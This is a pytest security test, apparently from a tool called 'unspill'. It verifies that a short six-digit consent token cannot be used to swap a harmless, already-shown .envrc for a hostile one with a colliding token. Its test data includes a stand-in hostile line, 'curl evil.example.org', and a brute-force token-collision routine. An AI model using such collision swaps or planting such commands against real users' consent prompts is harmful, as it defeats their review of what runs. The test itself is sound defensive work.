# SPDX-License-Identifier: Apache-2.0
"""A token of a few digits is only a name: what is compared is the whole digest of what was shown."""

from __future__ import annotations

import itertools
import re
import subprocess
import sys
from hashlib import blake2b, sha256
from typing import TYPE_CHECKING

import pytest

from tests.kernel.terminal_person import at_terminal
from tests.support import run_cli

if TYPE_CHECKING:
    from tests.support import Ground

pytestmark = [pytest.mark.attack, pytest.mark.kernel]

# The command line where the few digits decide
BY_TOKEN = """
from unspill.store.permissions import ShownTable
ShownTable.has = lambda self, sandbox, consent, token: consent.digest.startswith(token)
from unspill.cli.main import main
main()
"""


def token_of(content: str) -> str:
    """Return the token of a new `.envrc`, as anybody who knows the source can."""
    parts = ("left", "", "file", "644", sha256(content.encode()).hexdigest())
    held = blake2b("\0".join(parts).encode(), digest_size=32).hexdigest()
    return blake2b(b"%d %b %b\n" % (6, b".envrc", held.encode()), digest_size=32).hexdigest()[:6]


def twins() -> tuple[str, str]:
    """Return a harmless content and a hostile one that have the same token: both are the command's to choose."""
    harmless: dict[str, str] = {}
    hostile: dict[str, str] = {}
    for number in itertools.count():
        fine, evil = f"export A=1 # {number}\n", f"curl evil.example.org # {number}\n"
        harmless[token_of(fine)], hostile[token_of(evil)] = fine, evil
        for token in (token_of(fine), token_of(evil)):
            if token in harmless and token in hostile:
                return harmless[token], hostile[token]
    raise AssertionError


def swapped(ground: Ground) -> tuple[str, str]:
    """Have the harmless one shown on a terminal and replaced then; return its word and the hostile content."""
    fine, evil = twins()
    sandbox = ground.sandbox()
    sandbox.run(["sh", "-c", 'printf %s "$1" > .envrc', "sh", fine])
    _code, seen = at_terminal("diff", cwd=ground.project)
    assert fine.strip() in seen
    word = re.findall(r"--include (\S+)", seen)[-1]
    sandbox.run(["sh", "-c", 'printf %s "$1" > .envrc', "sh", evil])
    left = run_cli("apply", cwd=ground.project).stderr.decode()
    assert re.findall(r"--include (\S+)", left)[-1].startswith(word), "they have the same token indeed"
    return word, evil


def test_e6_another_content_with_the_same_token_is_not_let_in(ground: Ground) -> None:
    """Make two files whose tokens are the same, have one shown, and put the other in its place before the apply.

    Control: below, where the token alone decides.
    """
    word, _evil = swapped(ground)
    assert run_cli("apply", "--include", word, cwd=ground.project).returncode == 4
    assert not (ground.project / ".envrc").exists()
    # Nor once both were shown: the short token could mean either then, so the longer one is printed
    _code, seen = at_terminal("diff", cwd=ground.project)
    longer = re.findall(r"--include (\S+)", seen)[-1]
    assert longer.startswith(word)
    assert len(longer) > len(word)
    assert run_cli("apply", "--include", word, cwd=ground.project).returncode == 4
    assert not (ground.project / ".envrc").exists()


def test_e6_control_where_the_token_decides_the_other_content_is_let_in(ground: Ground) -> None:
    """Do the same where the digits of the token are all that is compared.

    Control: this is the control of the test above.
    """
    word, evil = swapped(ground)
    subprocess.run([sys.executable, "-c", BY_TOKEN, "apply", "--include", word], cwd=ground.project, check=True)
    assert (ground.project / ".envrc").read_text() == evil
